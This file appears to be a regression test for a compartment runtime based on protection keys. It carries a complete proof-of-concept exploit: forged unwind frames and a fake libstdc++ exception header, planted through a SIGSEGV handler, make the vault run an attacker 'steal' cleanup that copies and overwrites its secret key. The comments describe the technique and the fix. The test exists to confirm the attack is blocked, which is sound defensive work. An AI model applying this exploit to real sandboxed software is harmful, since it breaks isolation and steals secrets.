// Review 70b, attacker model B (the default domain's program counter; the
// same works under model A with one more key-0 store, reasoned). The
// vault's catch of its own exception, around a call out, gets an exception
// object the attacker chose, and runs its cleanup word with the vault's
// rights.
// libgcc_s's landing pad gets the exception in rax and the selector in
// rdx: the personality routine writes them with _Unwind_SetGR through the
// context's pointers to where those registers are saved, and
// uw_install_context reads them back from there. Those pointers come from
// the CFI of the frames walked: a frame whose FDE gives rax or rdx a rule
// (libgcc_s's own _Unwind_RaiseException, _Unwind_Resume, ...: rax at
// cfa-72, rdx at cfa-64, CFA rbp+16) points them into that frame. A frame
// off the vault's stacks is the attacker's to forge (a return address and
// rbp on its own stack), and a call out's CFI (review 55) sets the
// callee-saved registers again from the vault's stack, but not rax and
// rdx. The runtime's copy of the FDE (unwind-copy.c) keeps such rules as
// they are: the vault's unwinder writes the exception's address into
// key-0 memory the attacker chose, and the vault's pad takes rax from there.
// How: the vault's vault_visit calls the program's app_visit (a call
// out) in a try with catch (E &). app_visit copies its own return address
// and the words above it (the call out's saved stack pointer) to B + 8,
// where B = 48 bytes into the second of two key-0 pages, makes that page
// read-only, and (attack_call) with rbp = B, a key-0 stack and, as the
// return address, _Unwind_RaiseException + 0x100 (libgcc_s 12: CFA rbp+16,
// rax at cfa-72, rdx at cfa-64) jumps to vault_throw's entry, which throws
// E{1}. The vault's unwinder: vault frames -> entry trampoline ->
// _Unwind_RaiseException's row, CFA B + 16 (off the vault's stacks: no
// check), rax's slot B - 56 (the first page's last word), rdx's B - 48
// (the second page's first) -> the call out (its saved stack pointer,
// copied, points at its marked cookie: it passes) -> vault_visit's catch,
// on the vault's stack. libstdc++'s routine writes the exception's
// address at B - 56, then the selector at B - 48: a fault. The program's
// SIGSEGV handler (default rights; the runtime resumes the vault from its
// kept frame) writes at B - 56 the address of a forged libstdc++ header
// in key-0 memory (its adjustedPtr a key-0 E{0x4141}, its
// exception_cleanup `steal`) and makes the page writable. The vault's pad
// gets it in rax: __cxa_begin_catch hands the vault's catch the forged E,
// and __cxa_end_catch calls _Unwind_DeleteException, which calls steal
// with the vault's rights: it copies the vault's key into key-0 memory and
// writes "POWNED!" over it.
// Control: "control": the same frames, but the return address is
// _Unwind_RaiseException + 0x31 (CFA rbp+16, no rule for rax or rdx yet):
// the forged frame and the copied call out lead to the vault's catch,
// which catches its own E{1}; its key stays intact.
// Seen in the guest (LLVM 19, -O2) on h-rev70b at 2102036: control "the
// vault caught code 0x1 (rdx's slot faulted: 0)", "vault key intact";
// attack: "the vault caught code 0x4141", "steal ran with the vault's
// rights (pkru 0xfffffff0): TOP-SECR", "ATTACK SUCCEEDED: the vault's key
// now begins \"POWNED!\"", 3 of 3.
// Reasoned, not run: a catch off the vault's stacks (bh_pad_gate) hands
// over, with the vault's rights, the block rax names: another live
// exception of the vault's (another thread's) would be given to the
// default domain; and a chosen rdx picks another catch clause of the
// vault's for its own exception.
// Fixed (runtime/unwind-copy.c, put_eh_data_checked): in the runtime's
// copy of an FDE a DW_CFA_offset rule for rax or rdx becomes an expression
// that reads BH_UNWIND_STOP_EH_DATA (a fault, fault.c names it) unless the
// CFA and the slot lie in the compartment's arena; the other forms that
// give them a place are refused (one line). The attack now stops in the
// vault's first phase, at the forged frame ("the unwinder stopped (fault
// at 0xbae0)"), 3 of 3; the control is unchanged.
// REQUIRES: pku
// RUN: %bulkhead_clangxx -fpkey-compartments -O2 %s -o %t -ldl
// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
// RUN: %run %t > %t.out 2>&1 || true
// RUN: FileCheck %s < %t.out
// CONTROL: the vault caught code 0x1 (rdx's slot faulted: 0)
// CONTROL: vault key intact
// CONTROL: done
// CHECK: forged frame ready
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK-NOT: steal ran with the vault's rights
// CHECK: the unwinder stopped (fault at 0x
#include "Inputs/vault-key.h"
#include <dlfcn.h>
#include <signal.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <ucontext.h>
#include <unistd.h>
#include <unwind.h>

extern "C" void app_visit(void);

/* The vault runs the program's visitor and keeps the code of a failure. */
extern "C" BULKHEAD_ENTRY(vault) long vault_visit(void) {
  try {
    app_visit();
  } catch (E &e) {
    return e.v;
  }
  return 0;
}

/* libstdc++'s header (GCC 12, unwind-cxx.h) before a thrown object: the
 * count, then __cxa_exception 16-aligned, its unwind header last. */
struct fake_header {
  long refcount, pad;
  void *type, *dtor, *unexpected, *terminate, *next;
  int handler_count, switch_value;
  void *action, *lsda, *catch_temp, *adjusted;
  _Unwind_Exception uh;
};
_Static_assert(__builtin_offsetof(fake_header, uh) == 96 &&
                   __builtin_offsetof(fake_header, adjusted) == 88,
               "the layout");

extern "C" {
static fake_header forged __attribute__((aligned(16)));
static E fake_e = {0x4141};
volatile uint32_t steal_pkru, main_pkru;
volatile char stolen[9];
volatile uintptr_t key_at;
uintptr_t fake_stack[4096] __attribute__((aligned(16)));
static char *pages;           /* two key-0 pages: rax's slot, rdx's slot */
static volatile uintptr_t *x; /* rax's slot */
static int armed, faulted;
void attack_call(void *entry, uintptr_t ra, uintptr_t *sp, uintptr_t rbp);
}

static uint32_t rdpkru(void) {
  uint32_t eax, edx;
  __asm__ volatile(".byte 0x0f, 0x01, 0xee" : "=a"(eax), "=d"(edx) : "c"(0));
  return eax;
}

/* rbp = the forged frame, rsp = a key-0 stack, the return address ra,
 * then vault_throw(1)'s entry. */
__asm__(".text\n"
        "attack_call:\n"
        "  movq %rdi, %rax\n"
        "  movq %rcx, %rbp\n"
        "  movq %rdx, %rsp\n"
        "  pushq %rsi\n"
        "  movl $1, %edi\n"
        "  jmpq *%rax\n");

/* The forged exception's cleanup, called by _Unwind_DeleteException from
 * the vault's __cxa_end_catch with whatever rights that has. Installed by
 * its own address (a pointer taken in C++ would be the pass's wrapper,
 * which gates into the default domain first). Memory only. */
extern "C" __attribute__((used, noinline)) void steal(int, void *) {
  uint32_t p = rdpkru();
  steal_pkru = p;
  if (p != main_pkru) {
    volatile char *k = (volatile char *)key_at;
    for (int i = 0; i < 8; i++)
      stolen[i] = k[i];
    memcpy((void *)k, &POWNED, 8);
  }
}

/* The fault at rdx's slot: rax's is written by then. A fault at a low
 * address is a stop the runtime's copy of an FDE put in. */
static void on_segv(int sig, siginfo_t *si, void *ucv) {
  (void)sig;
  if (si->si_addr == pages + 4096 && !faulted) {
    faulted = 1;
    if (armed)
      *x = (uintptr_t)&forged.uh;
    mprotect(pages + 4096, 4096, PROT_READ | PROT_WRITE);
    return;
  }
  ucontext_t *uc = (ucontext_t *)ucv;
  if ((uintptr_t)si->si_addr < 0x10000) { /* abi.h's BH_UNWIND_STOP_* */
    printf("the unwinder stopped (fault at %p)\n", si->si_addr);
    _exit(0);
  }
  printf("unexpected SIGSEGV at %p, rip %#llx\n", si->si_addr,
         (unsigned long long)uc->uc_mcontext.gregs[REG_RIP]);
  _exit(3);
}

/* Called by the vault (a call out): its return address is the call
 * out's, the words above it the call out's saved stack pointer. */
extern "C" __attribute__((noinline)) void app_visit(void) {
  uintptr_t *r = (uintptr_t *)__builtin_frame_address(0) + 1;
  uintptr_t b = (uintptr_t)pages + 4096 + 48;
  x = (volatile uintptr_t *)(b - 56);
  memcpy((void *)(b + 8), r, 512);
  mprotect(pages + 4096, 4096, PROT_READ);
  uintptr_t g = (uintptr_t)dlsym(RTLD_DEFAULT, "_Unwind_RaiseException");
  void *entry;
  __asm__("leaq vault_throw(%%rip), %0" : "=r"(entry));
  printf("forged frame ready\n");
  /* libgcc_s 12: +0x30, CFA rbp+16 and no rule for rax or rdx yet (the
   * control); +0xff, rax at cfa-72, rdx at cfa-64. */
  attack_call(entry, g + (armed ? 0x100 : 0x31), &fake_stack[4000], b);
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  armed = argc < 2;
  main_pkru = rdpkru();
  key_at = (uintptr_t)vault_key;
  pages = (char *)mmap(NULL, 8192, PROT_READ | PROT_WRITE,
                       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  forged.uh.exception_class = 0x474e5543432b2b00ull; /* "GNUCC++\0" */
  void (*cleanup)(int, void *);
  __asm__("leaq steal(%%rip), %0" : "=r"(cleanup));
  forged.uh.exception_cleanup = (_Unwind_Exception_Cleanup_Fn)cleanup;
  forged.adjusted = &fake_e;
  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_sigaction = on_segv;
  sa.sa_flags = SA_SIGINFO;
  sigaction(SIGSEGV, &sa, NULL);
  long v = vault_visit();
  printf("the vault caught code %#lx (rdx's slot faulted: %d)\n", v, faulted);
  if (steal_pkru && steal_pkru != main_pkru) {
    char got[9] = {0};
    memcpy(got, (const void *)stolen, 8);
    printf("steal ran with the vault's rights (pkru %#x): %s\n", steal_pkru,
           got);
  }
  report(0, v);
  printf("done\n");
  return 0;
}
